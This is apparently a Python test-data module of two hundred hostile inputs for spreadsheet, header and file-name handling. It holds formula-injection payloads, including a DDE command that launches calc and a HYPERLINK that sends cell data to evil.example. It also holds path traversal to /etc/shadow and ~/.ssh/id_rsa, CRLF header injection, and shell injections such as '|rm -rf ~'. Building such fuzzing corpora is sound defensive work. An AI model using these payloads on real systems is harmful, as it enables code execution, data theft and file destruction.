"""Two hundred texts that a spreadsheet, a header or a file system could take for something else than text."""

SIGNS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\u200e=", "\u202e=", "\ufeff=",
    "＝", "＋", "－", "＠", "\x00=", "\x1f=", "\u3000＝",
)
PAYLOADS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Open")', "SUM(A1:A9)", "IMPORTXML(A1)", "2+5+cmd|'/C calc'!A0",
)
FORMULAS = [sign + payload for sign in SIGNS for payload in PAYLOADS]
"""120 formulas, behind signs that programs skip or fold."""

BURIED = [f"name{sign}{payload}" for sign in (";=", "\t=", "\n=", "\r\n=", ";+", "|@", ";-", "; =") for payload in PAYLOADS[:5]]
"""40 formulas that begin a cell where cells are parted at other signs than the comma."""

NAMES = [
    "../../etc/passwd", "..\\..\\windows\\system32", "/etc/shadow", "C:\\autoexec.bat", "CON", "nul.txt", "a\r\nSet-Cookie: x=1", "a\nX: y",
    'a"; filename="b.exe', "a%0d%0aX: y", "a\x00.exe", "\u202egpj.exe", "list.xlsx\r\n\r\n<script>", "~/.ssh/id_rsa", "|rm -rf ~", "`id`",
    "$(id)", "a;b", "a&b", "a<b>c", "*", "?", ".", "..", "...", "", " ", "-", "--help", "-rf", "a" * 5000, "\u0645" * 400, "a/b\\c",
    "x.php", "\ud800", "COM1", "lpt9.csv", "name\u2028next", "\u0000", "a'b",
]
"""40 names of files."""

HOSTILE = FORMULAS + BURIED + NAMES
